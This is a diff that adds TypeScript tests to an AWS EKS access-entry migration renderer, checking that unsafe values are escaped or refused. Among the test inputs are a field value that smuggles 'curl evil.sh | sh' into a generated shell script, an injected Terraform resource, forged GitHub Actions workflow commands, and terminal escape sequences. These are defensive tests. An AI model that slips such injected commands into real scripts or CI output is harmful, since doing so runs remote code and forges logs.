@@ -13,8 +13,14 @@ import { renderMigration } from '../../src/migrate/render/index.js';
 import type { MigrationFormat } from '../../src/migrate/render/index.js';
 import { planRequests } from '../../src/migrate/render/requests.js';
 import { hclString } from '../../src/migrate/render/terraform.js';
+import { findControlCharacter } from '../../src/util/control-characters.js';
 import { readTemplate } from '../support/cloudformation-template.js';
-import type { MigrationPlan, PlanAccessEntryMigrationOptions } from '../../src/migrate/types.js';
+import { hasLegacyCommand, REGISTERED_COMMANDS } from '../support/workflow-commands.js';
+import type {
+  MigrationEntry,
+  MigrationPlan,
+  PlanAccessEntryMigrationOptions,
+} from '../../src/migrate/types.js';
 
 const A = '111122223333';
 const FORMATS: MigrationFormat[] = ['json', 'aws-cli', 'cloudformation', 'terraform'];
@@ -309,5 +315,171 @@ describe('CloudFormation: a template over 500 resources is refused by CloudForma
     expect(() => renderMigration(plan(mapRoles), { format: 'cloudformation' })).toThrow(
       expect.objectContaining({ code: 'ERR_MIGRATION_RENDER', reason: 'too-many-resources' }),
     );
+  });
+});
+
+describe('GitHub Actions: "##[" in a value was a live workflow command in every format', () => {
+  // The runner finds "##[" anywhere in a line (actions/runner at
+  // 258d6c857db3519913f7deb6004b60172f8043ae, src/Runner.Common/ActionCommand.cs
+  // TryParse, lines 121-139): a CI log showing the plan masked or forged text.
+  const p = plan(entry('dev', '##[add-mask]x', ['##[error]y', 'a ##[warning]z']));
+
+  it.each(FORMATS)('%s writes the "[" of "##[" as \\u005b, the same value', (format) => {
+    const text = renderMigration(p, { format });
+    expect(text).not.toContain('##[');
+    expect(text.split('\n').filter((l) => hasLegacyCommand(l, REGISTERED_COMMANDS))).toEqual([]);
+    expect(text).toContain('##\\u005badd-mask]x');
+    expect(text).toContain('a ##\\u005bwarning]z');
+  });
+
+  it('each format reads back the value as it was', () => {
+    const json = JSON.parse(renderMigration(p, { format: 'json' })) as {
+      createAccessEntry: { username: string; kubernetesGroups: string[] }[];
+    };
+    expect(json.createAccessEntry[0]).toMatchObject({
+      username: '##[add-mask]x',
+      kubernetesGroups: ['##[error]y', 'a ##[warning]z'],
+    });
+    const template = readTemplate(renderMigration(p, { format: 'cloudformation' }));
+    const [resource] = Object.values(template.Resources);
+    expect(resource?.Properties.Username).toBe('##[add-mask]x');
+    expect(resource?.Properties.KubernetesGroups).toEqual(['##[error]y', 'a ##[warning]z']);
+    expect(hclString('##[error]y')).toBe('"##\\u005berror]y"');
+  });
+});
+
+/** The plan of one STANDARD entry, for hand-built plans. */
+function handBuilt(patch: Record<string, unknown>): MigrationPlan {
+  return { ...plan(entry('dev', 'dev', ['devs'])), ...patch } as MigrationPlan;
+}
+
+describe("renderMigration wrote a hand-built plan's target (and cluster name) into comments unchecked", () => {
+  // A target with a line break became a line of the aws-cli script before "set -euo pipefail".
+  const rows: [string, Record<string, unknown>][] = [
+    ['a target that injects a shell line', { target: 'API)\ncurl evil.sh | sh\n#' }],
+    ['a target that ends a Terraform comment', { target: 'API\nresource "x" "y" {}' }],
+    ['CONFIG_MAP (no migration target)', { target: 'CONFIG_MAP' }],
+    ['a target in lower case', { target: 'api' }],
+    ['no target', { target: undefined }],
+    ['a target that is no string', { target: ['API'] }],
+    ['a cluster name that is no string', { clusterName: { toString: () => 'prod' } }],
+  ];
+  it.each(rows.flatMap(([name, patch]) => FORMATS.map((f) => [name, f, patch] as const)))(
+    '%s: %s refuses it (unsafe-value)',
+    (_name, format, patch) => {
+      expect(() => renderMigration(handBuilt(patch), { format })).toThrow(
+        expect.objectContaining({ code: 'ERR_MIGRATION_RENDER', reason: 'unsafe-value' }),
+      );
+    },
+  );
+
+  it.each(['API', 'API_AND_CONFIG_MAP'])('target %s is rendered', (target) => {
+    for (const format of FORMATS) {
+      expect(renderMigration(handBuilt({ target }), { format })).toContain(target);
+    }
+  });
+});
+
+describe('Terraform: two policy associations of one entry could get one resource name', () => {
+  const VIEW = 'arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy';
+  const withPolicies = (policyArns: string[]): MigrationPlan => {
+    const p = plan(entry('dev', 'dev', ['devs']));
+    const e = p.entries[0] as MigrationEntry;
+    const accessPolicies = policyArns.map((policyArn) => ({
+      policyArn,
+      accessScope: { type: 'cluster' as const, namespaces: [] },
+    }));
+    return { ...p, entries: [{ ...e, accessPolicies }] };
+  };
+  it.each<[string, string[]]>([
+    ['one policy twice', [VIEW, VIEW]],
+    ['one name in two partitions', [VIEW, VIEW.replace(':aws:', ':aws-cn:')]],
+    ['names that read alike once cut to [a-z0-9_]', [VIEW, `${VIEW.slice(0, -6)}-Policy`]],
+  ])('%s is refused (name-clash), never two resources of one name', (_, policyArns) => {
+    expect(() => renderMigration(withPolicies(policyArns), { format: 'terraform' })).toThrow(
+      expect.objectContaining({ code: 'ERR_MIGRATION_RENDER', reason: 'name-clash' }),
+    );
+  });
+
+  it('two different policies get two names', () => {
+    const text = renderMigration(withPolicies([VIEW, VIEW.replace('View', 'Edit')]), {
+      format: 'terraform',
+    });
+    const names = [...text.matchAll(/resource "aws_eks_access_policy_association" "(\w+)"/g)];
+    expect(new Set(names.map((m) => m[1])).size).toBe(2);
+  });
+});
+
+describe('CloudFormation: astral characters were written as two \\u halves (lone surrogates to PyYAML)', () => {
+  // PyYAML, which cfn-lint and the AWS CLI read templates with, makes each
+  // "\uD83D" half a lone surrogate; libyaml refuses them.
+  it('writes one \\UXXXXXXXX escape for a character above U+FFFF', () => {
+    const text = renderMigration(plan(entry('dev', 'dev-\u{1F600}', ['\u{10FFFF}'])), {
+      format: 'cloudformation',
+    });
+    expect(text).toContain('Username: "dev-\\U0001f600"');
+    expect(text).toContain('- "\\U0010ffff"');
+    expect(text).not.toMatch(/\\ud[89a-f]/i);
+    const [resource] = Object.values(readTemplate(text).Resources);
+    expect(resource?.Properties.Username).toBe('dev-\u{1F600}');
+  });
+});
+
+describe('planner messages printed existing entries, accounts and map keys raw', () => {
+  const ESC = '\u001b[2J';
+  const BIDI = 'admins\u202e';
+
+  it.each<[string, () => string[]]>([
+    [
+      'an existing entry that differs: its ARN and groups',
+      () => {
+        const existing = JSON.stringify([
+          {
+            principalArn: role('dev'),
+            type: 'STANDARD',
+            username: 'other',
+            kubernetesGroups: [`x${ESC}`, BIDI],
+          },
+        ]);
+        return plan(entry('dev', 'dev', ['devs']), {
+          existingAccessEntries: existing,
+        }).losses.map((l) => l.message);
+      },
+    ],
+    [
+      'a mapAccounts item',
+      () =>
+        planAccessEntryMigration({ mapAccounts: '- "1111\\x1b[2J"\n' }, base).losses.map(
+          (l) => l.message,
+        ),
+    ],
+  ])('%s: quoted with control characters escaped', (_, messages) => {
+    const texts = messages();
+    expect(texts.length).toBeGreaterThan(0);
+    for (const text of texts) {
+      expect(findControlCharacter(text), text).toBeUndefined();
+      expect(text).toContain('\\u001b');
+    }
+  });
+
+  it('a principalArns map key naming another principal', () => {
+    expect(() =>
+      plan(entry('dev', 'dev', []), {
+        principalArns: { [`arn:aws:iam::${A}:role/other${ESC}`]: role('team/dev') },
+      }),
+    ).toThrow(
+      expect.objectContaining({
+        message: expect.stringContaining('role/other\\u001b[2J'),
+      }),
+    );
+  });
+
+  it("plan.check() differences: the ConfigMap's usernames and groups", async () => {
+    const p = plan(entry('dev', `dev${'\u0085'}x`, [BIDI, 'devs']));
+    const { differences } = await p.check();
+    expect(differences.length).toBeGreaterThan(0);
+    for (const d of differences) {
+      expect(findControlCharacter(d.message), d.message).toBeUndefined();
+    }
   });
 });
